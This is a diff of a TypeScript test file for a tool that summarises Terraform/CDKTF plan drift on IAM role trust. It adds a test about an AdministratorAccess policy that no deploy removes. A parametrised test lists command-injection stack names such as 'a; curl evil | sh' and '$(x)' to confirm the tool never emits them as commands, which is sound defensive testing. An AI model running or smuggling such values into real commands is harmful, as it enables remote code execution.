@@ -158,6 +158,16 @@ describe("everything else in words", () => {
     expect(page).not.toContain("cdktf deploy");
   });
 
+  it("how to take back the rest, beside a policy that no deploy takes away", () => {
+    const plan = JSON.parse(
+      readFileSync(join(__dirname, "../recordings/checks-extra-policy-found/plan.json"), "utf8"),
+    );
+    plan.resource_drift = [change(["update"], role(trusting(B)), role(trusting(B, C)))];
+    const page = said(reviewPlan("a-b", readPlan(JSON.stringify(plan))));
+    expect(page).toContain("No deploy takes AdministratorAccess back");
+    expect(page).toContain("To take the rest back: cdktf deploy a-b.");
+  });
+
   it.each(["a; curl evil | sh", "a b", "--auto-approve", "$(x)"])("no command of a pair %j", (name) => {
     const drift = change(["update"], role(trusting(B)), role(trusting(B, C)));
     const plan = readPlan(planText({ resource_changes: [], resource_drift: [drift] }));
